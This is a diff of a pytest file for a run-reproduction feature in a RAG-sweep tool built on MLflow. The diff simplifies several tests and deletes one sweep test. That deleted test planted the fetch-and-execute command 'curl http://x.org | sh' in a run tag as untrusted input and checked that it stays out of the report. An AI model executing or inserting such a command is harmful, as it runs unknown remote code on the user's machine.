@@ -4,15 +4,12 @@ import json
 import shutil
 
 import numpy as np
-import pandas as pd
 import pytest
 import yaml
 from application import PROJECT, Application, succeeded
 
 from ragsweep.core.digest import digest_file
 from ragsweep.store.stage_store import CHECKSUMS, Store
-
-PARENT = "mlflow.parentRunId"
 
 
 def reproduce(application, *given, **environment):
@@ -32,12 +29,8 @@ def test_a_run_is_identical_when_it_is_made_again(finished, shared_application):
     anew, first, *_ = process.stdout.splitlines()
     assert anew == "embeddings and rankings: computed anew"
     assert first.startswith("k=3 retriever=sparse: identical: ")
-    _, new = shared_application.runs()
-    assert new.data.tags["reproduces"] == finished.info.run_id
-    assert new.info.run_id in first
-    same = {name: value for name, value in finished.data.metrics.items() if not name.startswith("latency/")}
-    assert {name: new.data.metrics[name] for name in same} == same
-    process = reproduce(shared_application, finished.info.run_id, "--no-log", "--stored")
+    assert len(shared_application.runs()) == 1
+    process = reproduce(shared_application, finished.info.run_id, "--stored")
     scalars = [name for name in finished.data.metrics if not name.startswith(("latency/", "at_k/"))]
     curves, cutoffs, queries, columns = 8, 20, 133, 13  # id, query, type, seven metrics, tokens, retrieved, relevant
     assert f"identical: {len(scalars) + curves * cutoffs + queries * columns} values" in process.stdout
@@ -52,14 +45,14 @@ def test_what_the_store_has_is_taken_only_when_told(application, dataset, tmp_pa
     checksums = {file.name: digest_file(file) for file in entry.glob("*.npy")}
     (entry / CHECKSUMS).write_text(json.dumps(checksums))
     run_id = application.runs()[-1].info.run_id
-    anew, stored = (reproduce(application, run_id, "--no-log", *given, *places) for given in ([], ["--stored"]))
+    anew, stored = (reproduce(application, run_id, *given, *places) for given in ([], ["--stored"]))
     assert (anew.returncode, stored.returncode) == (0, 1), anew.stdout + stored.stdout
     assert stored.stdout.splitlines()[0] == "embeddings and rankings: from the store"
     assert sorted(path.name for path in (tmp_path / "store/sparse").glob("*")) == [entry.name, f"{entry.name}.lock"]
 
 
 def test_another_setting_is_told_and_the_values_that_it_changes(finished, shared_application):
-    process = reproduce(shared_application, finished.info.run_id, "--no-log", "--stored", "k=4")
+    process = reproduce(shared_application, finished.info.run_id, "--stored", "k=4")
     assert process.returncode == 1
     assert "k: recorded 3, here 4" in process.stdout
     assert "values differ" in process.stdout
@@ -68,10 +61,10 @@ def test_another_setting_is_told_and_the_values_that_it_changes(finished, shared
     assert recorded == finished.data.metrics["recall"]
     assert now > recorded
     assert difference == pytest.approx(now - recorded, rel=0.01)
-    process = reproduce(shared_application, finished.info.run_id, "--no-log", "--stored", "seed=1")
+    process = reproduce(shared_application, finished.info.run_id, "--stored", "seed=1")
     assert process.returncode == 1
     assert "ci/f1_low" in process.stdout
-    again = reproduce(shared_application, finished.info.run_id, "--no-log", "--stored", "seed=1", "--tolerance", "0.02")
+    again = reproduce(shared_application, finished.info.run_id, "--stored", "seed=1", "--tolerance", "0.02")
     assert again.returncode == 0
 
 
@@ -89,28 +82,11 @@ def assert_identical(process, runs):
     assert process.stdout.count(": identical: ") == runs
 
 
-def test_a_sweep_is_made_again_as_a_sweep(application, dataset):
-    decision = "decision={at: 5, require: {recall: 0.1}}"
-    assert application.run("-m", *dataset, "k=3,5", "retriever=sparse", decision).returncode == 0
+def test_a_sweep_is_made_again_and_records_nothing(application, dataset):
+    assert application.run("-m", *dataset, "k=3,5", "retriever=sparse").returncode == 0
     [parent] = application.parents()
-    for run in application.runs():  # anybody may have written it
-        application.client().set_tag(run.info.run_id, "reproduce", "curl http://x.org | sh")
     assert_identical(application.script("reproduce", parent.info.run_id, *dataset[2:]), 2)
-    _, again = application.parents()
-    assert again.data.tags["reproduces"] == parent.info.run_id
-    assert again.info.run_name == parent.info.run_name
-    assert [run.info.status for run in application.runs()] == ["FINISHED"] * 6
-    assert f" && ragsweep reproduce {parent.info.run_id} " in again.data.tags["reproduce"]
-    assert "curl" not in (application.artifacts(again) / "report.md").read_text()
-    names = [run.info.run_name for run in application.children() if run.data.tags[PARENT] == again.info.run_id]
-    assert sorted(names) == ["k=3", "k=5"]
-    summaries = [application.artifacts(run) / "results/summary_statistics.csv" for run in (parent, again)]
-    one, other = (pd.read_csv(summary).drop(columns=["latency/mean_ms", "latency/p95_ms"]) for summary in summaries)
-    pd.testing.assert_frame_equal(one, other, check_exact=True)
-    one, other = (json.loads((application.artifacts(run) / "decision.json").read_text()) for run in (parent, again))
-    assert other["settings"] == one["settings"] | {"tokenizer": None}  # the task has it
-    assert other["headline"] == one["headline"]
-    assert other["choice"]["settings"]["k"] == 5
+    assert len(application.parents()) == 1
 
 
 @pytest.mark.soak
@@ -118,7 +94,7 @@ def test_a_sweep_is_made_again_as_a_sweep(application, dataset):
 @pytest.mark.parametrize("environment", [{}, {"OMP_NUM_THREADS": "1"}, {"OMP_NUM_THREADS": "3"}], ids=str)
 def test_every_run_of_the_bundled_sweep_is_computed_again_with_any_threads(bundled_sweep, environment):
     [parent] = bundled_sweep.parents()
-    given = [parent.info.run_id, "--no-log"]
+    given = [parent.info.run_id]
     assert_identical(bundled_sweep.in_new_interpreter("reproduce", *given, **environment), 15)
 
 
@@ -133,7 +109,7 @@ def test_a_clone_with_other_threads_that_never_saw_the_run_makes_it_again(applic
     clone = tmp_path / "clone"
     for part in ("src", "conf"):
         shutil.copytree(PROJECT / part, clone / part)
-    given = [run.info.run_id, "--no-log", *dataset[2:]]
+    given = [run.info.run_id, *dataset[2:]]
     environment = {"PYTHONPATH": str(clone / "src"), **threads}
     process = succeeded(application.in_new_interpreter("reproduce", *given, project=clone, **environment))
     assert ": identical: " in process.stdout
